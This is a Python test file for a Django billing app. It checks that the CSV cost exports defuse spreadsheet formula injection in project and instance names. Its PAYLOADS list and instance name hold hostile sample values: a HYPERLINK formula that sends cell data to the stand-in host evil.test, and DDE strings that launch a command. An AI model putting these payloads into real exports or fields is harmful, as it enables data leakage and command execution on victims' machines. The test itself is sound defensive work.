"""costs.csv and focus.csv neutralise formula cells (names set by users or the cloud)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from rest_framework.test import APIClient

from apps.accounts.models import Organization
from apps.billing.models import BillLine
from apps.cloud.models import Instance, Project
from apps.cloud.providers.tencent.simulator import SimulatedCloud
from tests.exports.conftest import streamed_text, sync_fleet_bills

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
]
OCTOBER = {"start": "2026-10-01", "end": "2026-11-01"}


def _rows(client: APIClient, path: str) -> list[dict[str, str]]:
    response = client.get(path, OCTOBER)
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(streamed_text(response))))


def _is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "@", "\t", "\r") or (
        cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit()
    )


def test_hostile_names_are_text_in_both_csv_exports(
    acme: Organization, cloud: SimulatedCloud, alice_client: APIClient
) -> None:
    sync_fleet_bills(acme, cloud)
    projects = list(Project.objects.filter(organization=acme).order_by("pk"))
    assert projects
    for project, payload in zip(projects, PAYLOADS * len(projects), strict=False):
        project.name = payload
        project.save(update_fields=["name"])
    Instance.objects.filter(organization=acme).update(name="-1+cmd|' /C calc'!A0")
    # An adjustment's negative amount must stay a number.
    assert BillLine.objects.filter(cost__lt=0).exists()

    costs = _rows(alice_client, "/api/v1/exports/costs.csv")
    focus = _rows(alice_client, "/api/v1/exports/focus.csv")

    hostile = {p.name for p in Project.objects.filter(organization=acme)}
    assert {r["project"] for r in costs} & {"'" + name for name in hostile}
    assert {r["x_Project"] for r in focus} & {"'" + name for name in hostile}
    assert {r["instance_name"] for r in costs} == {"'-1+cmd|' /C calc'!A0"}
    for row in [*costs, *focus]:
        assert not [cell for cell in row.values() if _is_formula(cell)], row
    assert any(Decimal(r["cost"]) < 0 for r in costs)
    assert any(Decimal(r["BilledCost"]) < 0 for r in focus)
